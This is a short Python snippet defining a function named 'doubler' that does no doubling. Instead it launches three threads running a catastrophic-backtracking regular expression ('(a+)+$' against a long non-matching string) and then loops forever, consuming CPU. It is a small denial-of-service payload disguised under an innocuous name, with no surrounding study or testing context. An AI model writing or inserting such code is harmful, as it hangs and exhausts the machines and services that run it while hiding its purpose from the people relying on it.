import re
import threading

def doubler(n):
    for _ in range(3):
        threading.Thread(target=re.match, args=(r"(a+)+$", "a" * 64 + "b")).start()
    while True:
        pass
